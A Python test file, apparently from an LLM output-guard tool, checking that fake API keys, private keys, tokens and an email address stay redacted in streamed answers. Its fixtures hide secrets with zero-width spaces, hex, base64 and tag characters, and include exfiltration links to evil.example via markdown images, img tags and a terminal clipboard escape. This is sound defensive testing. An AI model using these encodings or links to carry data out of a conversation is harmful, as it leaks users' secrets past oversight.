"""What is longer than a guard looks back is hidden in a stream as it is in a whole answer."""

from __future__ import annotations

import base64
import json
from collections.abc import Iterator
from random import Random
from typing import Any

import pytest
from tests.guards.marks import KEEP, ready
from tests.guards.test_chunkings import DIALECTS, FILLER, Room, cut, cut_by, said
from tests.stations.canary import answer

from trimtab.dialects.llm.parts import Part, Text, ToolCall
from trimtab.guards.policy import ReadyPolicy
from trimtab.records import GuardRule
from trimtab.signals.catalogue import signal

PLACES = Random(7)
LETTERS = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789"
KEY = "sk-proj-Xk29LmQ8rT4vW1zB7nC3yD6fG5hJ0pAaSsDdFfGgHhJjKkLlQqWwEeRr"
MAIL = "maria.gonzalez@corp-mail.net"


def code(size: int) -> str:
    return "".join(PLACES.choice(LETTERS) for _ in range(size))


def key_block(lines: int) -> str:
    body = "\n".join(code(64) for _ in range(lines))
    return f"-----BEGIN RSA PRIVATE KEY-----\n{body}\n{code(20)}=\n-----END RSA PRIVATE KEY-----"


def web_token(size: int) -> str:
    head = base64.urlsafe_b64encode(b'{"alg":"RS256","typ":"JWT"}').decode().rstrip("=")
    claims = base64.urlsafe_b64encode(f'{{"sub":"{code(size)}"}}'.encode()).decode().rstrip("=")
    return f"{head}.{claims}.{code(342)}"


PROSE = (FILLER * 20 + KEY).encode()
LONG = {
    "key block": key_block(25),
    "key block with a header": key_block(25).replace("KEY-----\n", "KEY-----\nProc-Type: 4\n\n", 1),
    "token": web_token(500),
    "key": "sk-proj-" + code(1500),
    "letter by letter": ", ".join("sk-proj-" + code(160)),
    "spaced out": ("\u200b" * 20).join(KEY),
    "spaced far out": ("\u200b" * 200).join(KEY),
    "an address spaced out": ("\u200b" * 60).join(MAIL),
    "hexadecimal": PROSE.hex(),
    "hexadecimal with spaces": PROSE.hex(" "),
    "base64": base64.b64encode(PROSE).decode(),
    "base64 in lines": base64.encodebytes(PROSE).decode(),
    "base64 of an address": base64.b64encode((FILLER * 9 + MAIL + " " + FILLER).encode()).decode(),
    "escapes": "".join(f"%{one:02x}" for one in PROSE[-300:]),
    "tags": "".join(chr(0xE0000 + one) for one in PROSE[-400:]),
    "picture": ";base64," + base64.b64encode(PROSE[:1200]).decode(),
    "quoted": 'password: "' + "to be told " * 60 + "token: Zg7kkp0QwBBx1QwErTy8" + '"',
}
HARMLESS = {"picture", "quoted"}


def redacting(*rules: GuardRule) -> ReadyPolicy:
    return ready(*rules, record=KEEP, signals={one.called: signal(one.called) for one in rules})


ENOUGH = redacting(
    GuardRule(signal="secrets", on=("output",), action="redact"),
    GuardRule(signal="pii", on=("output",), action="redact", but=("url", "domain_name", "person")),
)
LINKS = {
    "image": f"![{FILLER * 12}](https://evil.example/p?d={code(900)})",
    "link": f"[the page](https://evil.example/p?d={code(1500)})",
    "tag": f"<img alt='{FILLER * 20}' src='https://evil.example/p?d={code(600)}'>",
    "address": f"https://evil.example/p?d={code(3000)}",
    "terminal": f"\x1b]52;c;{code(3000)}\x07",
}
CARRIED = redacting(
    GuardRule(signal="exfiltration", on=("output",), action="redact", threshold=0.1)
)


@pytest.fixture(scope="module")
def room(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Room]:
    opened = Room(tmp_path_factory.mktemp("long"))
    try:
        yield opened
    finally:
        opened.close()


def text_of(room: Room, policy: ReadyPolicy, dialect: str, parts: list[str], stream: bool) -> Any:
    return room.heard(policy, dialect, said(parts), stream=stream)[0].get(0, "")


@pytest.mark.parametrize("dialect", DIALECTS)
@pytest.mark.parametrize("name", sorted(LONG))
def test_long_findings_are_hidden_in_every_chunking(room: Room, name: str, dialect: str) -> None:
    text = f"{FILLER * 9}It is:\n{LONG[name]} . {FILLER * 20}"
    whole = text_of(room, ENOUGH, dialect, [text], False)
    assert (LONG[name] in whole) == (name in HARMLESS)
    for size in (3, 5, 64, 700, len(text)):
        found = text_of(room, ENOUGH, dialect, cut_by(text, size), True)
        assert (size, found) == (size, whole)


@pytest.mark.parametrize("name", sorted(LONG))
def test_long_findings_are_hidden_at_odd_cuts(room: Room, name: str) -> None:
    text = f"{FILLER * 3}{LONG[name]} . {FILLER}{LONG[name]} . {FILLER * 9}"
    whole = text_of(room, ENOUGH, "openai.chat", [text], False)
    for seed in range(6):
        places = Random(seed)
        at = [places.randrange(len(text)) for _ in range(places.choice((3, 40, 400)))]
        found = text_of(room, ENOUGH, "openai.chat", cut(text, at), True)
        assert (seed, found) == (seed, whole)


@pytest.mark.parametrize("dialect", DIALECTS)
@pytest.mark.parametrize("name", sorted(set(LONG) - {"tags"}))
def test_long_findings_are_hidden_in_arguments(room: Room, name: str, dialect: str) -> None:
    arguments = json.dumps({"note": f"{FILLER}{LONG[name]} . {FILLER * 9}", "n": 1})

    def call(size: int) -> list[Part]:
        calls = [ToolCall(index=0, arguments=piece) for piece in cut_by(arguments, size)]
        return answer(ToolCall(index=0, id="c", name="f"), *calls, finish="tool_calls")

    _, whole, _ = room.heard(ENOUGH, dialect, call(len(arguments)), stream=False)
    for size in (3, 50, 900):
        _, found, _ = room.heard(ENOUGH, dialect, call(size), stream=True)
        assert (size, json.loads(found)) == (size, json.loads(whole))


@pytest.mark.parametrize("name", sorted(LINKS))
def test_long_links_are_taken_out_in_every_chunking(room: Room, name: str) -> None:
    text = f"{FILLER * 9}{LINKS[name]} . {FILLER * 9}{LINKS[name]} {FILLER}"
    whole = text_of(room, CARRIED, "openai.chat", [text], False)
    assert LINKS[name] not in whole
    for size in (3, 64, 700, len(text)):
        found = text_of(room, CARRIED, "openai.chat", cut_by(text, size), True)
        assert (size, found) == (size, whole)


@pytest.mark.parametrize("text", [key_block(1800), "sk-proj-" + code(120_000)])
def test_what_is_longer_than_anything_is_held_stays_hidden(room: Room, text: str) -> None:
    pieces = cut_by(f"{FILLER}{text} {FILLER * 9}", 997)
    found = text_of(room, ENOUGH, "openai.chat", pieces, True)
    assert found.startswith(f"{FILLER}[")
    assert found.endswith(f"] {FILLER * 9}")
    assert found.count("[") == 1


def test_links_do_not_hold_what_has_none(room: Room) -> None:
    """What a stream of 1,700 characters gives to the caller before it is over."""
    parts = room.parts(CARRIED, "openai.chat", said(cut_by(FILLER * 26, 10)), stream=True)
    texts = [part.text for part in parts if isinstance(part, Text)]
    assert len(texts[0]) < 400
